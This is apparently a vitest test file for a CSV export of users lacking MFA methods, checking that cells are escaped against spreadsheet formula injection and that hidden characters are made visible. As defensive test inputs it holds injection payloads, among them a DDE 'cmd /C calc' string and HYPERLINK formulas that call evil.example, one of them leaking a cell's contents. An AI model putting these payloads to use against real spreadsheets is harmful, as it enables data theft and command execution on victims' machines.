import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { AffectedUser } from '../../src/results/schema.js';
import { csvCell, csvRow, writeWorklistCsv } from '../../src/render/csv.js';
import { SAMPLE_DIR, scratch } from '../fixtures/results-sample/load.js';

const user = (over: Partial<AffectedUser>): AffectedUser => ({
  id: '00000000-0000-4000-a000-000000000001',
  userPrincipalName: 'a@contoso.com',
  userDisplayName: 'A',
  userType: 'member',
  isAdmin: false,
  methodsRegistered: [],
  ...over,
});

/** Minimal RFC 4180 parser, to check that what we write reads back as the same cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describe('csvCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example","x")', `"'=HYPERLINK(""http://evil.example"",""x"")"`],
    ['+cmd|\' /C calc\'!A0', `'+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
    ['\tTabbed', `'\tTabbed`],
    ['\rCarriage', `"'\rCarriage"`],
  ])('neutralises the formula prefix of %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('leaves ordinary values alone and quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvCell('Alex Wilber')).toBe('Alex Wilber');
    expect(csvCell('a-b@contoso.com')).toBe('a-b@contoso.com');
    expect(csvCell('Smith, John')).toBe('"Smith, John"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line one\nline two')).toBe('"line one\nline two"');
  });

  it('shows control characters (other than tab and line breaks) as visible control pictures', () => {
    expect(csvCell('Bell\u0007Name\u0000')).toBe('Bell\u2407Name\u2400');
    expect(csvCell('del\u007F')).toBe('del\u2421');
    expect(csvCell('c1\u0085')).toBe('c1\uFFFD');
    expect(csvCell('keeps\ttab')).toBe('keeps\ttab');
    expect(csvCell('\u0007=1')).toBe('\u2407=1');
  });

  it('marks bidi controls and invisible characters as the HTML does (issue #13)', () => {
    expect(csvCell('Invoice\u202Egpj.exe')).toBe('Invoice[U+202E]gpj.exe');
    expect(csvCell('ad\u200Bmin')).toBe('ad[U+200B]min');
    expect(csvCell('-\u2066x')).toBe(`'-[U+2066]x`);
  });

  it('writes the six worklist columns, methods joined by ";"', () => {
    expect(csvRow(user({ isAdmin: null, methodsRegistered: ['email', 'mobilePhone'] }))).toBe(
      '00000000-0000-4000-a000-000000000001,a@contoso.com,A,member,,email;mobilePhone\r\n',
    );
    expect(csvRow(user({ isAdmin: true, methodsRegistered: ['-x'] }))).toContain(`,member,true,'-x\r\n`);
  });
});

describe('writeWorklistCsv', () => {
  it('streams the whole sidecar to a UTF-8 CSV with BOM that reads back to the same data', async () => {
    const dir = await scratch('csv');
    const src = join(SAMPLE_DIR, 'affected', 'users.not_mfa_capable.ndjson');
    const dest = join(dir, 'out.csv');
    const result = await writeWorklistCsv(src, dest, 25);
    const sidecar = (await readFile(src, 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as AffectedUser);
    expect(result.rows).toBe(sidecar.length);
    expect(result.rows).toBe(186);
    expect(result.head).toEqual(sidecar.slice(0, 25));

    const bytes = await readFile(dest);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.toString('utf8').slice(1));
    expect(rows[0]).toEqual(['id', 'userPrincipalName', 'userDisplayName', 'userType', 'isAdmin', 'methodsRegistered']);
    expect(rows).toHaveLength(187);
    for (const row of rows) {
      expect(row).toHaveLength(6);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const byUpn = new Map(rows.map((r) => [r[1], r]));
    expect(byUpn.get('formula.eq@contoso.com')?.[2]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`);
    expect(byUpn.get('john.smith@emea.contoso.onmicrosoft.com')?.[2]).toBe('Smith, John "JJ"');
    expect(byUpn.get('multi.line@contoso.com')?.[2]).toBe('Line one\nLine two');
    expect(byUpn.get('control.chars@contoso.com')?.[2]).toBe('Bell\u2407Name\u2400');
    expect(byUpn.get('wang.xiaoming@contoso.com')?.[2]).toBe('王小明');
    expect(byUpn.get('alex.kim@contoso.com')?.[2]).toBe('Alex 🚀 Kim 👩🏽‍💻');
  });

  it('names the line of an invalid row', async () => {
    const dir = await scratch('csv-bad');
    const src = join(dir, 'bad.ndjson');
    await writeFile(src, `${JSON.stringify(user({}))}\n\n{"id":1}\n`);
    await expect(writeWorklistCsv(src, join(dir, 'bad.csv'), 5)).rejects.toThrow(/line 3/);
    await writeFile(src, 'not json\n');
    await expect(writeWorklistCsv(src, join(dir, 'bad.csv'), 5)).rejects.toThrow(/line 1 is not JSON/);
  });
});
